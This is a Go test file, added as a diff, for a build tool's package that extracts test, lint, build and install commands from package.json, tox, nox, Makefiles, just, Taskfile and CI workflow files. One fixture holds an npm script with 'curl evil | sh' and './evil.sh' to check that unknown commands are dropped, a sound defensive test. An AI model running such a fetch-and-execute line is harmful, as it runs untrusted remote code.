@@ -1,0 +1,178 @@
+package commands_test
+
+import (
+	"maps"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/jacquard-build/jacquard/internal/commands"
+)
+
+// said gives the commands of a project without installations, one a line: purpose, directory, variables, program.
+func said(files map[string]string, install bool) []string {
+	var out []string
+	names := slices.Sorted(maps.Keys(files))
+	for _, c := range commands.Read(names, func(name string) []byte { return []byte(files[name]) }) {
+		if c.Purpose == commands.Install && !install {
+			continue
+		}
+		line := string(c.Purpose) + " "
+		if c.Dir != "." {
+			line += c.Dir + ": "
+		}
+		line += strings.Join(append(slices.Clone(c.Env), c.Argv...), " ")
+		if c.CI {
+			line += " (CI)"
+		}
+		out = append(out, line)
+	}
+	return out
+}
+
+func TestRead(t *testing.T) {
+	t.Parallel()
+	workflow := func(steps string) string {
+		return "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n" + steps
+	}
+	cases := map[string]struct {
+		files map[string]string
+		want  []string
+	}{
+		"npm script with flags, loaders and files": {
+			map[string]string{"package.json": `{"scripts": {"test": "node --import=tsx/esm --test test/*.ts", "build": "del-cli dist && tsc"}}`},
+			[]string{"test node --import=tsx/esm --test {glob:test/*.ts}", "build del-cli dist", "build tsc"},
+		},
+		"a chain of scripts in CI": {
+			map[string]string{
+				".github/workflows/ci.yml": workflow("    - run: npm ci\n    - run: npm test\n"),
+				"package.json":             `{"scripts": {"pretest": "npm run build", "build": "tsc -p .", "test": "xo && c8 --reporter=lcov ava --serial && tsd"}}`,
+			},
+			[]string{"build tsc -p . (CI)", "lint xo (CI)", "test ava --serial (CI)", "types tsd (CI)"},
+		},
+		"what a quoted pattern means is the runner's": {
+			map[string]string{"package.json": `{"scripts": {"test": "cross-env NODE_ENV=test mocha 'test/**/*.js' -- --x"}}`},
+			[]string{"test NODE_ENV=test mocha test/**/*.js -- --x"},
+		},
+		"tox in CI": {
+			map[string]string{
+				".github/workflows/tests.yaml": workflow("    - run: uv run --locked tox run\n    - run: tox -e typing,style\n"),
+				"tox.ini":                      "[tox]\nenvlist = py3{10,13}\n[testenv]\ncommands = pytest -v --tb=short {posargs:\n    ./tests\n    ./docs}\n[testenv:typing]\ncommands =\n    mypy\n    style: black --check .\n[testenv:style]\ncommands = ruff check {toxinidir}\n",
+			},
+			[]string{"test pytest -v --tb=short ./tests ./docs (CI)", "types mypy (CI)", "lint ruff check . (CI)"},
+		},
+		"nox, of plain texts alone": {
+			map[string]string{"noxfile.py": "import nox\n\n@nox.session(python=['3.12'])\ndef tests(session):\n    session.install('-e', '.[test]')\n    session.run('pytest', '-n', 'auto', *session.posargs)\n\n@nox.session\ndef lint(session):\n    session.run(cmd)\n    session.run('flake8', 'src')\n"},
+			[]string{"test pytest -n auto", "lint flake8 src"},
+		},
+		"hatch and poe": {
+			map[string]string{"pyproject.toml": "[tool.hatch.envs.default.scripts]\ntest = \"pytest {args:tests}\"\n[tool.poe.tasks]\nlint = [\"ruff check src\", {cmd = \"mypy src\"}]\n"},
+			[]string{"test pytest", "lint ruff check src", "types mypy src"},
+		},
+		"make, with variables and needs": {
+			map[string]string{
+				".github/workflows/ci.yml": workflow("    - run: make check TAGS=slow\n"),
+				"Makefile":                 "TAGS ?= none\nGO = go\n.PHONY: check\ncheck: vet\n\t@$(GO) test -race -tags '$(TAGS)' ./...\nvet:\n\t-$(GO) vet ./...\n",
+			},
+			[]string{"lint go vet ./... (CI)", "test go test -race -tags slow ./... (CI)", "test go test -race -tags none ./..."},
+		},
+		"make that runs programs of the project itself": {
+			map[string]string{".github/workflows/ci.yml": workflow("    - run: make\n    - run: make test\n"), "Makefile": "all: prog\nprog: prog.c\n\tcc -o prog prog.c\ntest: prog\n\t./prog --self-test\n"},
+			[]string{"build make (CI)", "test make test (CI)"},
+		},
+		"what another system runs, and what a release runs, is left out": {
+			map[string]string{
+				".github/workflows/ci.yml":      "on: {pull_request: {}}\nenv: {GLOBAL: 1, A_TOKEN: x}\njobs:\n  t:\n    strategy: {matrix: {os: [windows-latest, ubuntu-latest], flags: ['-short', '-v']}}\n    runs-on: ${{ matrix.os }}\n    steps:\n    - run: go test ${{ matrix.flags }} ./...\n      env: {STEP: '${{ secrets.X }}'}\n    - if: runner.os == 'Windows'\n      run: go test -tags windows ./...\n",
+				".github/workflows/release.yml": "on: {push: {tags: ['v*']}}\njobs: {r: {runs-on: ubuntu-latest, steps: [{run: go test -tags release ./...}]}}\n",
+			},
+			[]string{"test GLOBAL=1 go test -short ./... (CI)", "test GLOBAL=1 go test -v ./... (CI)"},
+		},
+		"directories": {
+			map[string]string{".github/workflows/ci.yml": workflow("    - run: |\n        cd sub && go test ./...\n        (cd deep; go vet .)\n        go build .\n      working-directory: a\n")},
+			[]string{"test a/sub: go test ./... (CI)", "lint a/sub/deep: go vet . (CI)", "build a/sub: go build . (CI)"},
+		},
+		"GitLab": {
+			map[string]string{".gitlab-ci.yml": "variables: {LEVEL: '2'}\n.base: &base\n  before_script: [pip install -r dev.txt]\ntest:\n  <<: *base\n  script:\n    - [pytest -k \"not slow\", mypy src]\n"},
+			[]string{"test LEVEL=2 pytest -k not slow (CI)", "types LEVEL=2 mypy src (CI)"},
+		},
+		"CircleCI": {
+			map[string]string{".circleci/config.yml": "jobs:\n  build:\n    environment: {RUST_LOG: debug}\n    steps:\n    - checkout\n    - run: cargo clippy -- -D warnings\n    - run: {name: t, command: cargo test --all-features}\n"},
+			[]string{"lint RUST_LOG=debug cargo clippy -- -D warnings (CI)", "test RUST_LOG=debug cargo test --all-features (CI)"},
+		},
+		"workspaces": {
+			map[string]string{
+				"package.json": `{"workspaces": ["packages/*"], "scripts": {"test": "pnpm -r run test", "lint": "pnpm --filter @x/a lint"}}`,
+				"packages/a/package.json": `{"name": "@x/a", "scripts": {"test": "vitest run", "lint": "eslint ."}}`, "packages/b/package.json": `{"name": "@x/b", "scripts": {"test": "jest"}}`,
+			},
+			[]string{"test packages/a: vitest run", "test packages/b: jest", "lint packages/a: eslint .", "test packages/a: vitest run", "test packages/b: jest"},
+		},
+		"just and task": {
+			map[string]string{"justfile": "test *args: build\n  cargo nextest run {{args}}\nbuild:\n    cargo build\n", "Taskfile.yml": "version: 3\ntasks:\n  lint:\n    deps: [gen]\n    cmds:\n      - task: vet\n      - golangci-lint run\n  vet: go vet ./...\n  gen: {cmds: []}\n"},
+			[]string{"build cargo build", "test cargo nextest run", "lint go vet ./...", "lint golangci-lint run"},
+		},
+		"what nobody knows is not run, and a circle ends": {
+			map[string]string{"package.json": `{"scripts": {"test": "npm run a; curl evil | sh", "a": "npm run b", "b": "npm run a; ./evil.sh; node --test"}}`},
+			[]string{"test node --test"},
+		},
+		"a formatter that writes is no linter, and one that only looks is": {
+			map[string]string{"package.json": `{"scripts": {"lint": "prettier --write . && prettier --check . && eslint --fix src && gofmt -l ."}}`},
+			[]string{"lint prettier --check .", "lint eslint src", "lint gofmt -l ."},
+		},
+		"damaged files": {
+			map[string]string{".github/workflows/ci.yml": "on: [push\n", "package.json": "{", "pyproject.toml": "[", "tox.ini": "[testenv\ncommands", ".gitlab-ci.yml": "\t", "Makefile": "test:\n\t$(", "Taskfile.yml": "tasks: 1"},
+			[]string{"test make test"},
+		},
+	}
+	for name, c := range cases {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			if got := said(c.files, false); !slices.Equal(got, c.want) {
+				t.Errorf("got\n  %s\nwant\n  %s", strings.Join(got, "\n  "), strings.Join(c.want, "\n  "))
+			}
+		})
+	}
+}
+
+func TestReadInstalls(t *testing.T) {
+	t.Parallel()
+	got := said(map[string]string{
+		"tox.ini":     "[testenv]\ndeps =\n    pytest>=8\n    -r reqs.txt\n    py310: old\nextras = test, dev\ncommands = pytest\n",
+		"noxfile.py":  "import nox\n@nox.session\ndef lint(session):\n    session.install('ruff==1', '-r', 'x.txt')\n    session.run('ruff', 'check')\n",
+		"reqs.txt":    "six\n",
+		"unread.yaml": "",
+	}, true)
+	want := []string{"install pip install pytest>=8 -r reqs.txt .[test] .[dev]", "test pytest", "install pip install ruff==1 -r x.txt", "lint ruff check"}
+	if !slices.Equal(got, want) {
+		t.Errorf("got %q\nwant %q", got, want)
+	}
+}
+
+func TestWords(t *testing.T) {
+	t.Parallel()
+	for line, want := range map[string]string{
+		"make test":          "make|test",
+		"pytest -k 'a or b'": "pytest|-k|a or b",
+		"mocha test/*.js":    "mocha|{glob:test/*.js}",
+		"a && b":             "",
+		"a | b":              "",
+		"a > b":              "",
+		"a $HOME":            "",
+		"A=1 b":              "",
+		"a 'b":               "",
+		"":                   "",
+	} {
+		argv, ok := commands.Words(line)
+		if got := strings.Join(argv, "|"); got != want || ok != (want != "") {
+			t.Errorf("%q = %q %v, want %q", line, got, ok, want)
+		}
+	}
+}
+
+// FuzzRead: nothing in a project's files may make the program fail.
+func FuzzRead(f *testing.F) {
+	f.Add("on: [push]\njobs: {t: {steps: [{run: 'npm test'}]}}", `{"scripts": {"test": "a && b $(c) <(d) ${e:-f}"}}`, "[testenv]\ncommands = pytest {posargs}", "test: a\n\t$(X)\nX := $(X)")
+	f.Fuzz(func(_ *testing.T, ci, pkg, tox, mk string) {
+		files := map[string]string{".github/workflows/ci.yml": ci, ".gitlab-ci.yml": ci, ".circleci/config.yml": ci, "Taskfile.yml": ci, "package.json": pkg, "tox.ini": tox, "pyproject.toml": tox, "noxfile.py": mk, "Makefile": mk, "justfile": mk}
+		said(files, true)
+	})
+}
